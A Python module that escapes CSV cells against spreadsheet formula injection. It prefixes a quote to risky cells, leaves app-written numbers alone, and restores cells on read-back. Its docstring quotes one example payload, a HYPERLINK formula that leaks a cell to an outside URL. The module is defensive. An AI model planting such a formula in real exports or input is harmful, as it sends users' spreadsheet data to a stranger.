"""Cells of every CSV Stillroom writes: a spreadsheet reads them as text, never as formulas.

A spreadsheet that opens a CSV runs a cell beginning with `=`, `+`, `-` or `@` as a formula
(and some do for a tab or a carriage return first): a client named
`=HYPERLINK("http://…?leak="&A1,"click")` would send the sheet to a stranger at a click.
Every CSV the app writes (the export, the day sheet, the call list) makes its cells here.
"""

from __future__ import annotations

import re

# What a spreadsheet may read as the start of a formula (OWASP's list), and the quote that
# marks a cell neutralised, so that one typed with a quote first comes back as typed too.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
PLAIN_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")


def safe_cell(text: str) -> str:
    """Text for a CSV cell that no spreadsheet runs: one single quote is put before a cell
    that begins with = + - @, a tab or a carriage return (the OWASP way), and before one
    that begins with a quote already, so that `cell_text` gives back exactly what was here.

    The rule for which cells go through it: every cell holding text a person typed (names,
    notes, reasons, addresses) and every cell that is not a plain number. A number the app
    itself writes (an amount such as "-12.50", a count, minor units) goes through
    `number_cell` instead, so that the spreadsheet can still add it up: a column is one or
    the other, decided where the CSV is written.
    """
    return QUOTE + text if text.startswith((*FORMULA_STARTS, QUOTE)) else text


def number_cell(text: str) -> str:
    """A number the app wrote ("-12.50", "8050"), left as it is for the spreadsheet to count
    with; anything in a number's column that is not a plain number is made `safe_cell`."""
    return text if PLAIN_NUMBER.fullmatch(text) else safe_cell(text)


def cell_text(cell: str) -> str:
    """A cell read back from a CSV the app wrote: the one quote `safe_cell` put before it
    taken off (only a quote before = + - @, a tab, a carriage return or another quote;
    any other cell is as it was)."""
    if cell.startswith(QUOTE) and cell[1:].startswith((*FORMULA_STARTS, QUOTE)):
        return cell[1:]
    return cell
